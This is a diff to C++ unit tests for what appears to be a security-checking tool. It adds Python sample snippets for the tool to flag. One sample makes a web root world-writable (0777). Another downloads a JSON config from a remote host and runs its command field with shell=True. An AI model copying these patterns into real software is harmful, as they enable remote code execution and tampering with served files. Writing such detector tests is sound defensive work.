@@ -169,5 +169,30 @@ TEST(SeventyFirstRoundClasses, ALoopsOutputIsEveryPasssLines) {
   for (const auto& c : cases) check(c);
 }
 
+// Left by the seventieth round: a mapping read at run time (json.load,
+// tomllib.load) has no known keys, but .get(KEY, DEFAULT) may be the default.
+TEST(SeventyFirstRoundClasses, ARunTimeMappingsGetMayBeItsDefault) {
+  const Case cases[] = {
+      {"a web root from TOML settings, defaulting under /var/www, made 0777", H,
+       "import os, tomllib\n"
+       "with open('site.toml', 'rb') as fh:\n"
+       "    cfg = tomllib.load(fh)\n"
+       "os.chmod(cfg.get('webroot', '/var/www/html/portfolio'), 0o777)\n",
+       "PERMISSIONS-ON-SYSTEM-PATHS"},
+      {"an output directory from JSON settings, defaulting to ./public", L,
+       "import json, os\n"
+       "with open('site.json') as fh:\n"
+       "    cfg = json.load(fh)\n"
+       "os.makedirs(cfg.get('out', 'public'), exist_ok=True)\n",
+       nullptr},
+      {"a downloaded mapping's command still runs what came", B,
+       "import json, subprocess, urllib.request\n"
+       "cfg = json.load(urllib.request.urlopen('https://cfg.example.com/c.json', timeout=10))\n"
+       "subprocess.run(cfg.get('cmd', 'true'), shell=True)\n",
+       "REMOTE-CODE-EXECUTION"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
